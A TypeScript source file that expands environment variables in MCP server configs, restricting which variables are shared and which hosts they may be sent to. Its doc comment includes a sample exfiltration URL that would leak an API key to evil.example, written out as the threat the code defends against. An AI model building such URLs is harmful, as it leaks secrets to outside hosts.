import { envSetting } from '../../shared/wire/env-settings';
/**
 * `${VAR}` and `${VAR:-default}` in an MCP server's env, headers and URL, expanded on the
 * worker from its own environment: a token need not be written into a fork's input (and so
 * into its history). An unset variable without a default is an error that names it. Only
 * variables the worker's operator shares expand: names starting `MCP_`, and those listed in
 * FORKFLOW_MCP_VARS (comma-separated). Whoever starts a fork writes these configs, so
 * `https://evil.example/?k=${ANTHROPIC_API_KEY}` must not reach a key — and a shared token
 * must not go wherever a starter names either: in an HTTP server's URL and headers a
 * variable expands only for the hosts the operator lists for it in FORKFLOW_MCP_VAR_HOSTS
 * (`NAME=host[|host…]`, comma-separated). A stdio server's command and arguments take no
 * variable at all: every local user reads a process's arguments (`ps`); its env is the place.
 */

/** A variable a server's config needs and this worker does not have. */
export class McpConfigVariableError extends Error {
  override name = 'McpConfigVariableError';
}

const VAR = /\$\{([A-Za-z_][A-Za-z0-9_]*)(?::-([^}]*))?\}/g;

/** Whether this worker shares `name` with MCP configs (an `MCP_` prefix, or listed in FORKFLOW_MCP_VARS). */
export function sharedWithMcp(name: string, env: NodeJS.ProcessEnv = process.env): boolean {
  return name.startsWith('MCP_') || (envSetting(env, 'FORKFLOW_MCP_VARS') ?? '').split(/[\s,]+/).includes(name);
}

export function expandVars(text: string, env: NodeJS.ProcessEnv = process.env): string {
  return text.replace(VAR, (_all, name: string, fallback: string | undefined) => {
    if (!sharedWithMcp(name, env)) throw new McpConfigVariableError(`\${${name}} is not shared with MCP configs on this worker (list it in FORKFLOW_MCP_VARS, or name it MCP_…)`);
    const value = env[name];
    if (value !== undefined && value !== '') return value;
    if (fallback !== undefined) return fallback;
    throw new McpConfigVariableError(`\${${name}} is not set on this worker (give it a value, or write \${${name}:-default})`);
  });
}

export function expandRecord(record: Record<string, string> | undefined, env: NodeJS.ProcessEnv = process.env): Record<string, string> {
  return Object.fromEntries(Object.entries(record ?? {}).map(([k, v]) => [k, expandVars(v, env)]));
}

/** The names of the variables `text` uses. */
export function variablesIn(text: string): string[] {
  return [...text.matchAll(VAR)].map((m) => m[1]!);
}

/** FORKFLOW_MCP_VAR_HOSTS: the hosts (lower case) a shared variable may be sent to. */
export function hostsFor(name: string, env: NodeJS.ProcessEnv = process.env): string[] {
  for (const entry of (envSetting(env, 'FORKFLOW_MCP_VAR_HOSTS') ?? '').split(/[\s,]+/)) {
    const [key, hosts] = entry.split('=');
    if (key === name && hosts) return hosts.split('|').map((h) => h.trim().toLowerCase()).filter(Boolean);
  }
  return [];
}

/**
 * An HTTP server's URL and headers, expanded: every variable in them must be shared and
 * allowed for the URL's host (checked on the expanded URL, so a variable cannot choose the
 * host it is sent to unless the operator listed that host for it too).
 */
export function expandHttp(config: { url: string; headers?: Record<string, string> | undefined }, env: NodeJS.ProcessEnv = process.env): { url: URL; headers: Record<string, string> } {
  const url = new URL(expandVars(config.url, env));
  const headers = expandRecord(config.headers, env);
  const host = url.hostname.toLowerCase();
  for (const name of [config.url, ...Object.values(config.headers ?? {})].flatMap(variablesIn)) {
    if (!hostsFor(name, env).includes(host)) {
      throw new McpConfigVariableError(`\${${name}} may be sent only to the hosts this worker's operator names for it, and ${host} is not one (FORKFLOW_MCP_VAR_HOSTS=${name}=<host>)`);
    }
  }
  return { url, headers };
}

/** A stdio server's command or argument, which must name no variable (arguments are public: `ps`). */
export function literalArgument(text: string): string {
  const used = variablesIn(text);
  if (used.length > 0) throw new McpConfigVariableError(`\${${used[0]}} in a stdio server's command or arguments is refused: every local user can read a process's arguments (ps); pass it in the server's env instead`);
  return text;
}
